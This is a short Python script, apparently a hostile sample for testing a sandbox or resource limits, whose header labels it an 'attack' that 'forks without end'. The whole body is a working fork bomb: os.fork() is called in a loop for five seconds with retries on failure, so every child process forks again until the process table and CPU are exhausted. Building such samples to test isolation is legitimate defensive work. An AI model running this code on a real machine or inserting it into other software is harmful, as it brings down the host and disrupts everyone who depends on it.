# /// attack
# what = "forks without end"
# keeps = ["lstm_unroll"]
# ///
# %%
import os, time
deadline = time.monotonic() + 5
while time.monotonic() < deadline:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
